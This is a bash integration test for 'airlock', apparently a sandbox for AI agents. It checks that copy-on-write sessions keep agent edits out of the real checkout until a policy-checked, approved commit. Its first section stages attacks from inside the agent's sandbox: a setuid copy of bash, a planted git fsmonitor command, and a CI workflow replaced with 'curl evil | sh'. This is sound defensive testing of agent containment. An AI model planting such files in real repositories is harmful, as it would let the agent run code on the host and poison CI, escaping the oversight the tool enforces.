#!/bin/bash
# SPDX-License-Identifier: ISC
# Copyright (c) 2026 The airlock authors
# Copy-on-write agent sessions (agent.workspace: cow, airlock run --cow):
# the agent's own tools write into the session's overlay, never the real
# checkout; runners and the broker's writes in the session see and add
# to the same view; airlock diff shows it, airlock commit lands it only
# through the write policy (each refused entry named with its rule) and
# only without conflicts; discard throws it away; a session resumes; a
# session in use cannot be committed; commitApproval: required wants an
# approver; a manifest changed since the session began refuses.  The
# attacks of issue 12 are made for real from inside the agent's sandbox.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
. "$top_srcdir/tests/lib.sh"
. "$top_srcdir/tests/integration/mcp_lib.sh"
mcp_env
ws=$(make_workspace)
mkdir -p "$ws/.github/workflows"
echo "run: tests" >"$ws/.github/workflows/ci.yml"
echo "base" >"$ws/src/base.txt"
orig_todo=$(cat "$ws/src/todo.sh")
A=$(realpath "$AIRLOCK")
verify() { "$A" audit verify "$1" >/dev/null 2>&1; }


cat >"$T/m.yaml" <<'EOF'
tools:
  - name: write_file
    input: { path: workspace_relative_path, content: string }
    output: { sha256: sha256, bytes: integer }
    sideEffect: workspace_write
    timeoutMs: 5000
  - name: run_check
    input: { checkId: approved_check, idempotencyKey: string }
    output: { exitCode: integer, output: string }
    sideEffect: sandbox_process
    timeoutMs: 20000
checks:
  build: { argv: ["sh", "-c", "cat src/agent.txt src/broker.txt && echo built >src/check.txt"], timeoutMs: 10000 }
sandbox:
  protected: [".github/workflows"]
agent:
  workspace: cow
EOF

# Runs AGENT-SCRIPT-BODY as the agent of a new session (or --resume S);
# the copy-on-write session's id (the first run's) is left in $S.
run_agent() {	# BODY [airlock run options...]
	local body=$1; shift
	{ echo '#!/bin/sh'; printf '%s\n' "$body"; } >"$T/agent.sh"
	chmod 755 "$T/agent.sh"
	timeout 60 "$A" run --manifest "$T/m.yaml" --workspace "$ws" "$@" \
	    -- "$T/agent.sh" >"$T/out" 2>"$T/err"
	S=$(sed -n 's/.*changes stay in session \([^ ]*\) until.*/\1/p' "$T/err" | tail -1)
}
tool_calls() { connect_calls "$@"; }

# --- The attacks, from inside the agent's sandbox ---------------------------
run_agent '
cp /bin/bash sbash && chmod 4755 sbash && echo SETUID-MADE
mkdir -p src/.git && printf "[core]\n\tfsmonitor = \"touch /tmp/pwned\"\n" >src/.git/config && echo "ref: refs/heads/main" >src/.git/HEAD && echo GIT-MADE
mv .github .github.old && mkdir -p .github/workflows && echo "run: curl evil | sh" >.github/workflows/ci.yml && echo WORKFLOW-REPLACED
'
out=$(cat "$T/out")
expect_contains "the agent writes freely in its overlay (setuid copy)" "$out" SETUID-MADE
expect_contains "the agent writes freely in its overlay (nested .git)" "$out" GIT-MADE
expect_contains "the agent writes freely in its overlay (workflow swap)" "$out" WORKFLOW-REPLACED
check "a session id is printed" test -n "$S"
check "the real checkout has no setuid copy" test ! -e "$ws/sbash"
check "the real checkout has no nested .git" test ! -e "$ws/src/.git"
check "the real checkout keeps its .github" test ! -e "$ws/.github.old"
expect_eq "the real workflow is untouched" "$(cat "$ws/.github/workflows/ci.yml")" "run: tests"
up="$AIRLOCK_HOME/sessions/$S/cow/upper"
check "the session keeps the changes in its upper layer" test -e "$up/sbash"
expect_contains "the session directory records a cow_session" "$(cat "$AIRLOCK_HOME/sessions/$S/audit.jsonl")" '"event":"cow_session"'

d=$("$A" diff "$S" 2>"$T/derr"); rc=$?
expect_eq "airlock diff succeeds" "$rc" 0
expect_contains "the diff shows the setuid bit" "$d" "new file mode 104755"
expect_contains "the diff lists the binary" "$d" "Binary files /dev/null and b/sbash differ"
expect_contains "the diff shows the planted git config" "$d" 'fsmonitor'
expect_contains "the diff shows the workflow replaced" "$d" "+run: curl evil | sh"
expect_contains "the diff shows the moved-away copy" "$d" "new directory .github.old/ mode 0755"
d2=$("$A" diff "$S" 2>/dev/null)
expect_eq "the diff is deterministic" "$(printf %s "$d2" | sha256sum)" "$(printf %s "$d" | sha256sum)"

"$A" commit "$S" >"$T/cout" 2>"$T/cerr"; rc=$?
c=$(cat "$T/cerr")
expect_eq "commit refuses (exit 1)" "$rc" 1
expect_contains "commit names the setuid file and its rule" "$c" "refused: sbash: special_bits"
expect_contains "commit names the nested .git and its rule" "$c" "refused: src/.git/config: git"
expect_contains "commit names the replaced workflow and its rule" "$c" "refused: .github/workflows/ci.yml: protected"
check "after the refusal, still no setuid copy on the host" test ! -e "$ws/sbash"
expect_eq "after the refusal, the workflow is untouched" "$(cat "$ws/.github/workflows/ci.yml")" "run: tests"
log=$(ls "$AIRLOCK_HOME/sessions/$S/commits/"*.jsonl | tail -1)
expect_contains "the refusal is in a commit log" "$(cat "$log")" '"event":"cow_commit_refused"'
check "the commit log verifies" verify "$log"

"$A" discard "$S" 2>"$T/xerr"; rc=$?
expect_eq "discard succeeds" "$rc" 0
expect_eq "discard empties the session" "$(ls -A "$up")" ""
expect_eq "after discard, the diff is empty" "$("$A" diff "$S" 2>/dev/null)" ""

# --- Resume: a clean edit through the agent, the broker and a runner ---------
body=$(printf '%s\n' 'echo "agent edit" >src/agent.txt' 'echo "#edited" >>src/todo.sh' 'mv README.md README.txt'; tool_calls \
    '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"write_file","arguments":{"path":"src/broker.txt","content":"from the broker\n"}}}' \
    '{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"run_check","arguments":{"checkId":"build","idempotencyKey":"b1"}}}'
    echo 'echo "AGENT-SEES $(cat src/check.txt)"')
run_agent "$body" --resume "$S"
S1=$S
out=$(cat "$T/out")
expect_contains "the runner sees the agent's and the broker's writes" "$out" 'agent edit\\nfrom the broker\\n'
expect_contains "the agent sees the runner's write" "$out" "AGENT-SEES built"
check "resumed: the real checkout has none of it" test ! -e "$ws/src/agent.txt" -a ! -e "$ws/src/broker.txt" -a ! -e "$ws/src/check.txt" -a -e "$ws/README.md"
expect_eq "resumed: the real todo.sh is untouched" "$(cat "$ws/src/todo.sh")" "$orig_todo"
expect_contains "the resumed run's log says so" "$(cat "$T/err")" "session $S1 until"
d=$("$A" diff "$S" 2>"$T/derr")
expect_contains "the diff has the agent's new file" "$d" "+agent edit"
expect_contains "the diff has the broker's write" "$d" "+from the broker"
expect_contains "the diff has the runner's write" "$d" "+built"
expect_contains "the diff has the agent's modification" "$d" "+#edited"
expect_contains "the diff shows a rename" "$d" "rename from README.md
rename to README.txt"
sha=$(sed -n 's/.*diff sha256 \([0-9a-f]*\).*/\1/p' "$T/derr")
"$A" commit --digest 0000000000000000000000000000000000000000000000000000000000000000 "$S" 2>"$T/cerr"; rc=$?
expect_eq "commit with another diff's digest refuses" "$rc" 1
# airlock-commit(1)'s example shortens the digest (529b84...): a prefix is
# a usage error naming the flag, not "changed since its diff was read".
"$A" commit --digest "$(printf %.6s "$sha")" "$S" 2>"$T/cerr"; rc=$?
expect_eq "commit with a shortened digest: usage error (64)" "$rc" 64
expect_contains "... that says a digest is 64 hex digits" "$(cat "$T/cerr")" \
    "not a sha256 (the 64 hex digits that airlock diff printed)"
"$A" commit --digest "$sha" "$S" 2>"$T/cerr"; rc=$?
expect_eq "commit with the reviewed digest succeeds" "$rc" 0
expect_eq "the agent's file landed" "$(cat "$ws/src/agent.txt")" "agent edit"
expect_eq "the broker's file landed" "$(cat "$ws/src/broker.txt")" "from the broker"
expect_eq "the runner's file landed" "$(cat "$ws/src/check.txt")" "built"
expect_eq "the modification landed" "$(tail -1 "$ws/src/todo.sh")" "#edited"
check "the rename landed" test -e "$ws/README.txt" -a ! -e "$ws/README.md"
expect_eq "landed files belong to the checkout's owner" "$(stat -c %u "$ws/src/agent.txt")" "$(stat -c %u "$ws")"
log=$(ls "$AIRLOCK_HOME/sessions/$S/commits/"*.jsonl | tail -1)
expect_contains "the commit log has the diff's sha256" "$(cat "$log")" "\"diffSha256\":\"$sha\""
expect_contains "the commit log records the apply" "$(cat "$log")" '"event":"cow_applied"'
check "the commit log verifies" verify "$log"
# The commit log is the only record of a commit: its key is certified by
# the host key, as a session log's is.  Before, it was UNTRUSTED under
# --key (exit 3), as a log forged under any key is, and verifying the
# state directory did not read it at all.
out=$("$A" audit verify --key "$AIRLOCK_HOME/keys/audit.pub" "$log" 2>&1); rc=$?
expect_eq "the commit log verifies under the pinned host key" "$rc" 0
expect_contains "... certified by it" "$out" "(session, certified by a trusted host key)"
out=$("$A" audit verify --key-file "$AIRLOCK_HOME/keys/trusted.pub" "$AIRLOCK_HOME" 2>&1)
expect_contains "verifying the state directory reads the commit log" "$out" \
    "$log: valid and closed: session $S,"
expect_eq "after commit, the session is empty" "$("$A" diff "$S" 2>/dev/null)" ""

# --- Conflict: the checkout changes under a session's edit -------------------
run_agent 'echo "agent side" >src/base.txt; echo "agent only" >src/other.txt' --resume "$S1"
echo "human side" >"$ws/src/base.txt"
"$A" commit "$S1" 2>"$T/cerr"; rc=$?
expect_eq "a conflicting commit refuses" "$rc" 1
expect_contains "the conflict is listed" "$(cat "$T/cerr")" "conflict: src/base.txt: changed in the checkout since the session began"
expect_eq "the human's edit stays" "$(cat "$ws/src/base.txt")" "human side"
check "nothing else was applied" test ! -e "$ws/src/other.txt"
"$A" discard "$S1" 2>/dev/null

# --- In use: no commit while the agent runs ---------------------------------
rm -f "$ws/go"
{ echo '#!/bin/sh'; echo 'echo x >running'; echo 'i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done'; } >"$T/wait.sh"
chmod 755 "$T/wait.sh"
timeout 60 "$A" run --manifest "$T/m.yaml" --workspace "$ws" --resume "$S1" -- "$T/wait.sh" >/dev/null 2>"$T/werr" &
wpid=$!
for _ in $(seq 300); do [ -e "$AIRLOCK_HOME/sessions/$S1/cow/upper/running" ] && break; sleep 0.1; done
"$A" commit "$S1" 2>"$T/cerr"; rc=$?
expect_eq "commit while the agent runs refuses" "$rc" 1
expect_contains "and says the session is in use" "$(cat "$T/cerr")" "is in use by another airlock"
touch "$ws/go"
wait $wpid
rm -f "$ws/go"
check "nothing landed from the running session" test ! -e "$ws/running"

# --- Resume refuses another workspace ----------------------------------------
mkdir -p "$T/other"
"$A" run --manifest "$T/m.yaml" --workspace "$T/other" --resume "$S1" -- /bin/true 2>"$T/rerr"; rc=$?
expect_eq "resume in another workspace refuses" "$rc" 64
expect_contains "and says why" "$(cat "$T/rerr")" "is of the workspace $ws"

# --- commitApproval: required ------------------------------------------------
sed -e 's/^  workspace: cow$/  workspace: cow\n  commitApproval: required/' "$T/m.yaml" >"$T/m2.yaml"
printf 'approvals:\n  approvers: [4242, "group:4300"]\n' >>"$T/m2.yaml"
cp "$T/m2.yaml" "$T/m.yaml"
run_agent 'echo approved >src/approved.txt' --cow
"$A" commit "$S" 2>"$T/cerr"; rc=$?
expect_eq "commitApproval: required refuses a user who is not an approver" "$rc" 1
expect_contains "and says so" "$(cat "$T/cerr")" "is not one of approvals.approvers"
check "nothing landed" test ! -e "$ws/src/approved.txt"

# --- The manifest changed since the session began: loosening it buys nothing
sed -i '/commitApproval: required/d' "$T/m.yaml"
"$A" commit "$S" 2>"$T/cerr"; rc=$?
expect_eq "commit under a manifest changed since the session began refuses" "$rc" 1
expect_contains "and says the manifest changed" "$(cat "$T/cerr")" "changed since session $S began"
check "nothing landed without the approval" test ! -e "$ws/src/approved.txt"

# A member of a group named in approvals.approvers is an approver (as the
# broker admits one): root with group 4300 commits.  Before, commit looked
# at uids only and refused them.
cp "$T/m2.yaml" "$T/m.yaml"
setpriv --groups=4301 "$A" commit "$S" 2>"$T/cerr"; rc=$?
expect_eq "a user in no group named there is still refused" "$rc" 1
expect_contains "... and told so" "$(cat "$T/cerr")" "nor in a group named there"
setpriv --groups=4300 "$A" commit "$S" 2>"$T/cerr"; rc=$?
expect_eq "a member of an approver group commits" "$rc" 0
check "... and the change landed" test "$(cat "$ws/src/approved.txt" 2>/dev/null)" = approved
finish
